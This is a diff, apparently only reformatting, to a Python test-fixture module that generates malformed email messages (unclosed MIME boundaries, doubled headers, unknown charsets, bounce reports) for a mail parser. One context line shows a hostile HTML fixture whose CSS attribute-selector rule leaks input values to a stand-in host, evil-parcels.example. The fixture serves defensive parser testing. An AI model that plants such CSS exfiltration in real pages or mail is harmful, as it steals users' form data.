@@ -30,7 +30,10 @@ def all_of_them(moments: Callable[[int], datetime]) -> list[Oddity]:
 
 def _head(moment: datetime, sender: str, to: str, subject: str, identifier: str) -> list[wire.Header]:
     return [
-        ("Received", f"from relay.example (relay.example [192.0.2.77]) by mx1.wethercote.example; {format_datetime(moment)}"),
+        (
+            "Received",
+            f"from relay.example (relay.example [192.0.2.77]) by mx1.wethercote.example; {format_datetime(moment)}",
+        ),
         ("From", sender),
         ("To", to),
         ("Subject", subject),
@@ -70,7 +73,9 @@ input[value^="a"]{background-image:url(https://evil-parcels.example/leak?a)}</st
 
 def _nasty_html(moment: datetime) -> bytes:
     page = wire.text_part(_NASTY, "html", "utf-8", "quoted-printable")
-    logo = wire.file_part("logo.png", "image/png", files.png(40, 12, [(200, 30, 30)]), content_id="logo@parcels")
+    logo = wire.file_part(
+        "logo.png", "image/png", files.png(40, 12, [(200, 30, 30)]), content_id="logo@parcels"
+    )
     entity = wire.multipart("related", "=_nasty", (page, logo), '; type="text/html"')
     head = _head(
         moment,
@@ -88,7 +93,8 @@ def _boundary_never_closed(moment: datetime) -> bytes:
     picture = base64.encodebytes(files.png(64, 64, [(90, 120, 160), (20, 40, 60)])).replace(b"\n", b"\r\n")
     body = (
         b"--frame\r\nContent-Type: text/plain\r\n\r\nhere is the till, it does this every morning\r\n"
-        b'--frame\r\nContent-Type: image/png; name="till.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + picture[:-40]
+        b'--frame\r\nContent-Type: image/png; name="till.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
+        + picture[:-40]
     )
     return wire.headers([*head, ("Content-Type", 'multipart/mixed; boundary="frame"')]) + b"\r\n" + body
 
@@ -120,8 +126,17 @@ def _no_headers_to_speak_of(moment: datetime) -> bytes:
 def _double_headers(moment: datetime) -> bytes:
     head = _head(moment, "Neil Skipworth <neil.skipworth@fenlandgrowers.example>", "support@wethercote.example",
                  "Weighbridge PC", "double")  # fmt: skip
-    doubled = [*head, ("Subject", "Fwd: Weighbridge PC - second subject"), ("From", "postmaster@fenlandgrowers.example")]
-    part = wire.text_part("The weighbridge PC has gone blue again and there are six lorries waiting.\n", "plain", "utf-8", "7bit")
+    doubled = [
+        *head,
+        ("Subject", "Fwd: Weighbridge PC - second subject"),
+        ("From", "postmaster@fenlandgrowers.example"),
+    ]
+    part = wire.text_part(
+        "The weighbridge PC has gone blue again and there are six lorries waiting.\n",
+        "plain",
+        "utf-8",
+        "7bit",
+    )
     return wire.headers(doubled) + bytes(part)
 
 
@@ -129,7 +144,10 @@ def _unknown_charset(moment: datetime) -> bytes:
     head = _head(moment, "Lars Eklund <lars.eklund@fernhillcloud.example>", "Aisha Malik <aisha.malik@wethercote.example>",
                  "=?x-swedish-7?Q?Driftst=F6rning?=", "charset")  # fmt: skip
     kind = [("Content-Type", "text/plain; charset=x-unknown-8"), ("Content-Transfer-Encoding", "8bit")]
-    return wire.headers([*head, *kind]) + b"\r\nHej Aisha, driftst\xf6rningen \xe4r \xf6ver. All nodes green since 04:12.\r\n"
+    return (
+        wire.headers([*head, *kind])
+        + b"\r\nHej Aisha, driftst\xf6rningen \xe4r \xf6ver. All nodes green since 04:12.\r\n"
+    )
 
 
 def _bad_base64(moment: datetime) -> bytes:
@@ -160,7 +178,9 @@ def _utf16_and_utf7(moment: datetime) -> bytes:
 
 
 def _message_in_message(moment: datetime) -> bytes:
-    inner = wire.headers(_head(moment, "mailer-daemon@relay.example", "nobody@relay.example", "Undeliverable", "inner"))
+    inner = wire.headers(
+        _head(moment, "mailer-daemon@relay.example", "nobody@relay.example", "Undeliverable", "inner")
+    )
     inner += b"Content-Type: text/plain\r\n\r\nThe mailbox of terry.hobs@kestrelprecision.example does not exist.\r\n"
     parts = (
         wire.text_part("Your message could not be delivered. Did you mean terry.hobbs?\n", "plain", "us-ascii", "7bit"),
@@ -171,7 +191,9 @@ def _message_in_message(moment: datetime) -> bytes:
     )  # fmt: skip
     head = _head(moment, "Mail Delivery System <mailer-daemon@relay.example>", "Marcus Bell <marcus.bell@wethercote.example>",
                  "Undelivered mail returned to sender", "bounce")  # fmt: skip
-    return wire.headers(head) + bytes(wire.multipart("report", "=_report", parts, "; report-type=delivery-status"))
+    return wire.headers(head) + bytes(
+        wire.multipart("report", "=_report", parts, "; report-type=delivery-status")
+    )
 
 
 def _bare_line_feeds(moment: datetime) -> bytes:
@@ -184,7 +206,9 @@ def _long_references(moment: datetime) -> bytes:
     head = _head(moment, "Terry Hobbs <terry.hobbs@kestrelprecision.example>", "support@wethercote.example",
                  "RE: RE: RE: FW: RE: stores PC", "endless")  # fmt: skip
     chain = " ".join(f"<part-{number}@kestrelprecision.example>" for number in range(180))
-    part = wire.text_part("still not right. same as the other 180 mails on this\n", "plain", "us-ascii", "7bit")
+    part = wire.text_part(
+        "still not right. same as the other 180 mails on this\n", "plain", "us-ascii", "7bit"
+    )
     return wire.headers([*head, ("References", chain)]) + bytes(part)
 
 
